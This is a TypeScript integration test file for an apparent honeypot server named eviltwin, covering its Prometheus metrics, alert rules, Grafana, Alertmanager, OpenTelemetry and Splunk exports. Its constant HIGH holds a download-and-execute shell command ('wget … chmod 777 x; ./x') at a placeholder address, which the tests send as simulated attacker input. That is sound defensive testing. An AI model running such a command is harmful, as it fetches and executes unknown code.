import { type ChildProcess, execFile, execFileSync, spawn } from 'node:child_process'
import { existsSync, mkdtempSync, readFileSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { promisify } from 'node:util'
import { afterAll, beforeAll, describe, expect, test } from 'vitest'
import { freePort } from '../server/src/testing/free-port.js'
import { type HttpReceiver, startHttpReceiver } from '../server/src/testing/http-receiver.js'
import { openFeed } from '../server/src/testing/test-feed.js'
import { until } from '../server/src/testing/until.js'
import {
  accessToken,
  createInstallation,
  type Installation,
  PASSWORD,
  type RunningServer,
  SENSOR_KEY,
} from './server-process.js'

const run = promisify(execFile)
const has = (path: string) => existsSync(path)
const PROMTOOL = '/usr/bin/promtool'
const PROMETHEUS = '/usr/bin/prometheus'
const ALERTMANAGER = '/usr/bin/prometheus-alertmanager'
const DEPLOY = new URL('../deploy/', import.meta.url).pathname
const HIGH = 'wget http://192.0.2.1/x; chmod 777 x; ./x'

let installation: Installation
let server: RunningServer
let token: string
/** Of Prometheus. */
let metricsKey: string
/** Splunk's collector with acknowledgement, and an OTLP endpoint: honest stand-ins that keep what they get. */
let splunk: HttpReceiver
let otlp: HttpReceiver
const children: ChildProcess[] = []

beforeAll(async () => {
  splunk = await startHttpReceiver()
  let ackId = 0
  splunk.answer((response, { url }) => {
    response.setHeader('content-type', 'application/json')
    if (url.startsWith('/services/collector/ack'))
      return response.end(JSON.stringify({ acks: { [ackId]: true } }))
    ackId += 1
    response.end(JSON.stringify({ text: 'Success', code: 0, ackId }))
  })
  otlp = await startHttpReceiver()
  otlp.answer((response) => response.setHeader('content-type', 'application/json').end('{}'))
  installation = await createInstallation({
    ADMIN_PASSWORD: PASSWORD,
    BOOTSTRAP_SENSOR_KEY: SENSOR_KEY,
    OUTBOUND_ALLOWED_NETWORKS: '127.0.0.0/8',
    SPLUNK_HEC_URL: splunk.url,
    SPLUNK_HEC_TOKEN: 'hec-token',
    OTEL_EXPORTER_OTLP_ENDPOINT: otlp.url,
    OPERATIONS_INTERVAL_SECONDS: '0.5',
  })
  server = await installation.start()
  token = await accessToken(installation.url)
  metricsKey = (await installation.run('key', 'add', 'prometheus', '--scope', 'metrics:read')).stdout.trim()
})
afterAll(async () => {
  for (const child of children) child.kill('SIGKILL')
  await server.kill('SIGTERM')
  await splunk.close()
  await otlp.close()
  installation.remove()
})

async function attack(source_ip: string, headers: Record<string, string> = {}): Promise<void> {
  const response = await fetch(`${installation.url}/log`, {
    method: 'POST',
    headers: { authorization: `Bearer ${SENSOR_KEY}`, 'content-type': 'application/json', ...headers },
    body: JSON.stringify({ source_ip, session: 's', occurred_at: new Date().toISOString(), command: HIGH }),
  })
  expect(response.status).toBe(200)
}

/** Reads /metrics as Prometheus does. */
function scrape(headers: Record<string, string> = {}): Promise<Response> {
  return fetch(`${installation.url}/metrics`, {
    headers: { authorization: `Bearer ${metricsKey}`, ...headers },
  })
}

/** A copy of the shipped configuration in which everything is there, and asks this server every second. */
function prometheusConfig(): string {
  const directory = mkdtempSync(join(tmpdir(), 'eviltwin-prometheus-'))
  writeFileSync(join(directory, 'eviltwin.key'), `${metricsKey}\n`, { mode: 0o600 })
  const config = readFileSync(`${DEPLOY}prometheus/prometheus.yaml`, 'utf8')
    .replace('localhost:8000', new URL(installation.url).host)
    .replace('credentials_file: /etc/prometheus', `credentials_file: ${directory}`)
    .replaceAll('15s', '1s')
    .replace('eviltwin-slo-rules', `${DEPLOY}prometheus/eviltwin-slo-rules`)
    .replace('eviltwin-operational-rules', `${DEPLOY}prometheus/eviltwin-operational-rules`)
  writeFileSync(join(directory, 'prometheus.yaml'), config)
  return directory
}

function start(program: string, ...args: string[]): void {
  children.push(spawn(program, args, { stdio: 'ignore' }))
}

describe.skipIf(!has(PROMTOOL))('promtool', () => {
  test('finds nothing wrong with /metrics', async () => {
    await attack('203.0.113.1')
    await fetch(`${installation.url}/sessions/1`, { headers: { authorization: `Bearer ${token}` } })
    const metrics = await (await scrape()).text()
    // The source specification names it with an abbreviated unit, which is all that promtool minds.
    const input = metrics.replaceAll(/^.*\bai_analyze_session_latency_ms.*\n/gm, '')
    const checked = execFileSync(PROMTOOL, ['check', 'metrics'], { input }).toString()
    expect(checked).toBe('')
    for (const name of [
      'ai_analyze_session_count_total',
      'ai_analyze_session_latency_ms_count',
      'ai_chat_count_total',
      'ai_unavailable_count_total',
      'scoring_ml_count_total',
      'scoring_degraded_count_total',
      'http_server_request_duration_seconds_bucket',
      'db_client_connections',
      'nodejs_eventloop_delay_p99_seconds',
      'eviltwin_alert_manager_queue_depth',
    ]) {
      expect(metrics).toMatch(new RegExp(`^${name}[ {]`, 'm'))
    }
  })

  test('accepts the shipped rules, and their tests pass', async () => {
    const rules = ['eviltwin-slo-rules.yaml', 'eviltwin-operational-rules.yaml'].map(
      (name) => `${DEPLOY}prometheus/${name}`,
    )
    expect((await run(PROMTOOL, ['check', 'rules', ...rules])).stdout).toContain('161 rules found')
    await run(PROMTOOL, ['check', 'config', `${prometheusConfig()}/prometheus.yaml`])
    const tested = await run(PROMTOOL, ['test', 'rules', `${DEPLOY}prometheus/eviltwin-rules.test.yaml`])
    expect(tested.stdout).toContain('SUCCESS')
  })

  test('accepts every expression of the Grafana dashboard', async () => {
    const dashboard = JSON.parse(readFileSync(`${DEPLOY}grafana/eviltwin.json`, 'utf8')) as {
      schemaVersion: number
      panels: Array<{
        id: number
        title: string
        gridPos: { x: number; w: number }
        targets: Array<{ expr: string }>
      }>
    }
    expect(new Set(dashboard.panels.map(({ id }) => id)).size).toBe(dashboard.panels.length)
    expect(dashboard.panels.every(({ gridPos: { x, w } }) => x + w <= 24)).toBe(true)
    const expressions = dashboard.panels.flatMap(({ targets }) => targets.map(({ expr }) => expr))
    const rules = expressions.map((expr, n) => ({
      record: `panel:expr:n${n}`,
      expr: expr.replaceAll('$__range', '24h'),
    }))
    const file = join(mkdtempSync(join(tmpdir(), 'eviltwin-grafana-')), 'rules.json')
    // YAML is a superset of JSON.
    writeFileSync(file, JSON.stringify({ groups: [{ name: 'panels', rules }] }))
    expect((await run(PROMTOOL, ['check', 'rules', file])).stdout).toContain(`${rules.length} rules found`)
  })
})

test('OpenMetrics has an end, families without _total, and exemplars that lead to a trace', async () => {
  const trace = '4bf92f3577b34da6a3ce929d0e0e4736'
  await attack('203.0.113.2', { traceparent: `00-${trace}-00f067aa0ba902b7-01` })
  const response = await scrape({ accept: 'application/openmetrics-text' })
  expect(response.headers.get('content-type')).toContain('application/openmetrics-text')
  const text = await response.text()
  expect(text.endsWith('# EOF\n')).toBe(true)
  expect(text).toContain('# TYPE scoring_degraded_count counter')
  expect(text).toMatch(new RegExp(`http_route="/log".*le="[^"]+"} \\d+ # {trace_id="${trace}"} 0\\.\\d+`))
})

test('whatever paths a scanner asks for, the routes of the metrics stay few', async () => {
  for (let n = 0; n < 300; n += 1)
    await fetch(`${installation.url}/wp-${n}/x.php`, { method: n % 2 ? 'GET' : 'POST' })
  const metrics = await (await scrape()).text()
  const routes = new Set([...metrics.matchAll(/http_route="([^"]+)"/g)].map(([, route]) => route))
  expect(routes.has('unmatched')).toBe(true)
  expect([...routes].filter((route) => route?.includes('wp-'))).toEqual([])
})

test.skipIf(!has(PROMETHEUS))('a real Prometheus scrapes it, and evaluates the rules', async () => {
  const port = await freePort()
  const directory = prometheusConfig()
  start(
    PROMETHEUS,
    `--config.file=${directory}/prometheus.yaml`,
    `--storage.tsdb.path=${directory}/data`,
    `--web.listen-address=127.0.0.1:${port}`,
    '--enable-feature=exemplar-storage',
  )
  const query = async (path: string) => {
    const response = await fetch(`http://127.0.0.1:${port}/api/v1/${path}`).catch(() => null)
    return response?.ok ? ((await response.json()) as { data: { result: unknown[] } }).data : null
  }
  const up = await until(async () => {
    const data = await query('query?query=up')
    return data && data.result.length > 0 && data
  })
  expect(up.result).toMatchObject([{ metric: { job: 'eviltwin' }, value: [expect.anything(), '1'] }])
  await until(async () => ((await query('query?query=scoring_degraded_count_total'))?.result.length ?? 0) > 0)
  // It takes exemplars from OpenMetrics alone, and refuses what is not OpenMetrics.
  const exemplars = 'query_exemplars?query=http_server_request_duration_seconds_bucket'
  const lately = () => `start=${Date.now() / 1000 - 3600}&end=${Date.now() / 1000 + 60}`
  await until(async () => JSON.stringify(await query(`${exemplars}&${lately()}`))?.includes('"trace_id"'))
  const rules = (await query('rules')) as unknown as { groups: Array<{ rules: Array<{ health: string }> }> }
  expect(rules.groups.flatMap((group) => group.rules).filter(({ health }) => health === 'err')).toEqual([])
})

test.skipIf(!has(ALERTMANAGER))('a real Alertmanager receives an alert', async () => {
  const port = await freePort()
  const directory = mkdtempSync(join(tmpdir(), 'eviltwin-alertmanager-'))
  start(
    ALERTMANAGER,
    `--config.file=${DEPLOY}alertmanager/alertmanager.yaml`,
    `--storage.path=${directory}`,
    `--web.listen-address=127.0.0.1:${port}`,
    '--cluster.listen-address=',
  )
  const url = `http://127.0.0.1:${port}`
  await until(async () => (await fetch(`${url}/-/ready`).catch(() => null))?.ok)
  const added = await fetch(`${installation.url}/channels`, {
    method: 'POST',
    headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
    body: JSON.stringify({ name: 'alertmanager', settings: { type: 'alertmanager', url } }),
  })
  expect(added.status).toBe(201)
  await attack('203.0.113.3')
  const alert = await until(async () => {
    const alerts = (await (await fetch(`${url}/api/v2/alerts`)).json()) as Array<{
      labels: Record<string, string>
    }>
    return alerts.find(({ labels }) => labels['source_ip'] === '203.0.113.3')
  })
  expect(alert.labels).toMatchObject({ alertname: 'EvilTwinThreat', service: 'eviltwin', severity: 'high' })
})

test('an OTLP receiver gets metrics, logs, and the trace of one event from POST to WebSocket', async () => {
  const trace = '0af7651916cd43dd8448eb211c80319c'
  const call = (path: string, { as, ...init }: RequestInit & { as?: string } = {}) =>
    fetch(installation.url + path, { ...init, headers: { authorization: `Bearer ${as}` } })
  const feed = await openFeed({ url: installation.url, call }, token)
  await attack('203.0.113.4', { traceparent: `00-${trace}-b7ad6b7169203331-01` })
  interface Span {
    traceId: string
    spanId: string
    parentSpanId?: string
    name: string
  }
  const spans = () =>
    otlp.requests
      .filter(({ url }) => url === '/v1/traces')
      .flatMap(
        ({ body }) => JSON.parse(body).resourceSpans as Array<{ scopeSpans: Array<{ spans: Span[] }> }>,
      )
      .flatMap(({ scopeSpans }) => scopeSpans.flatMap((scope) => scope.spans))
      .filter(({ traceId }) => traceId === trace)
  await until(() => spans().length >= 3)
  const [post, ...others] = spans().sort((a, b) =>
    a.name === 'POST /log' ? -1 : b.name === 'POST /log' ? 1 : 0,
  )
  expect(post).toMatchObject({ name: 'POST /log', parentSpanId: 'b7ad6b7169203331' })
  expect(others.map(({ name }) => name).sort()).toEqual(['WebSocket broadcast', 'alert raise'])
  for (const { parentSpanId } of others) expect(parentSpanId).toBe(post?.spanId)
  await feed.close()
  await until(() =>
    otlp.requests.some(({ url, body }) => url === '/v1/logs' && body.includes('Event ingested')),
  )
  await until(() =>
    otlp.requests.some(
      ({ url, body }) => url === '/v1/metrics' && body.includes('http.server.request.duration'),
    ),
  )
})

test('a HEC receiver with acknowledgement gets the log, and the events once they are settled', async () => {
  await attack('203.0.113.5')
  const bodies = (sourcetype: string) =>
    splunk.requests
      .filter(({ url }) => url === '/services/collector/event')
      .flatMap(({ body }) => body.split('\n').map((line) => JSON.parse(line)))
      .filter((envelope) => envelope.sourcetype === sourcetype)
  const line = await until(() =>
    bodies('eviltwin:log').find(
      ({ event }) => event.message === 'Event ingested' && event.source_ip === '203.0.113.5',
    ),
  )
  expect(line.event).toMatchObject({ level: 'INFO', logger: 'backend.routers.ingest' })
  expect(splunk.requests.some(({ url }) => url.startsWith('/services/collector/ack?channel='))).toBe(true)
  expect(splunk.requests[0]?.headers.authorization).toBe('Splunk hec-token')
  const event = await until(() =>
    bodies('eviltwin:event').find((each) => each.event.source_ip === '203.0.113.5'),
  )
  expect(event.event).toMatchObject({ event_type: 'command', command: HIGH })
})

test('the jq commands of the weekly checklist work on the log file that is there by default, and `slo status` and `review` on a running server', async () => {
  const file = join(installation.dataDir, 'logs', 'backend_logs.jsonl')
  await until(() => existsSync(file) && readFileSync(file, 'utf8').includes('Event ingested'))
  const errors = execFileSync('bash', [
    '-c',
    `cat ${file} | jq -r 'select(.level=="ERROR") | .message' | sort | uniq -c | sort -rn`,
  ]).toString()
  expect(errors).not.toContain('jq')
  const levels = execFileSync('bash', ['-c', `jq -r .level ${file} | sort -u`]).toString()
  expect(levels).toContain('INFO')
  const status = await installation.run('slo', 'status')
  // A busy machine may be too slow for an objective of latency: the exit code says what the table says, either way.
  const breached = status.stdout.match(/^\S.* breached /gm) ?? []
  expect([status.code, status.stderr === '']).toEqual(breached.length > 0 ? [1, false] : [0, true])
  expect(status.stdout).toMatch(/^Ingest availability +met +99\.5 % +100 % +100 %/m)
  const review = await installation.run('review', '--since', '7d', '--format', 'json')
  expect(JSON.parse(review.stdout).slos).toHaveLength(13)
  expect((await installation.run('review', '--since', 'yesterday')).code).toBe(2)
  const exported = await installation.run('openslo', 'export')
  expect(exported.stdout.match(/kind: SLO/g)).toHaveLength(13)
})
